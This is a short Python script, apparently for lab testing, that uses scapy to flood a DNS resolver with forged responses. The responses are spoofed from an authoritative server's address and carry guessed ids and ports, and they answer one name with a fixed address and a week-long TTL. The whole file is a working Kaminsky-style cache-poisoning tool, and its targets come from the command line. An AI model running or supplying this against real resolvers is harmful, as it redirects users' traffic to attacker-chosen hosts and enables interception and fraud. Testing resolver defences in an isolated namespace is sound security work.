"""A Kaminsky-style flood from a test namespace (scapy): forged responses for one question,
from the authoritative server's address, with guessed ids and ports. Bounded by count.

    spoof_flood.py SRC DST QNAME COUNT
"""
import random
import sys

from scapy.all import DNS, DNSQR, DNSRR, IP, UDP, send

src, dst, qname, count = sys.argv[1], sys.argv[2], sys.argv[3], int(sys.argv[4])
rng = random.Random(1)
packets = [IP(src=src, dst=dst) / UDP(sport=53, dport=rng.randint(1024, 65535)) /
           DNS(id=rng.randint(0, 65535), qr=1, aa=1, qd=DNSQR(qname=qname),
               an=DNSRR(rrname=qname, ttl=604800, rdata="198.18.0.66"))
           for _ in range(count)]
send(packets, verbose=False, inter=0.002)
print(count)
